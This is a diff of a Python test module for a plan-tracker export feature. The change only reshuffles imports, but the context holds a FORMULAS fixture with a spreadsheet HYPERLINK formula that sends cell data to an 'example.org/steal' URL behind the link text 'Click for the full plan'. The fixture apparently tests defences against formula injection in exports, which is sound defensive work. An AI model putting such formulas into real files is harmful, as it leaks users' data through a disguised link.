@@ -25,7 +25,8 @@ from tracker.imports.plan_import import write
 from tracker.imports.plan_reader import HEADINGS, Column, read_plan
 from tracker.imports.sources import read_tables
 from tracker.models import ActionStatus, AreaPriority, Plan, ProgressUpdate, Rag, Role
-from tracker.plans.export import AREA_COLUMNS, export_plan, exported_actions
+from tracker.plans.export import export_plan
+from tracker.plans.export.content import AREA_COLUMNS, exported_actions
 
 FORMULAS = {
     "action": '=HYPERLINK("http://example.org/steal?d="&A1,"Click for the full plan")',
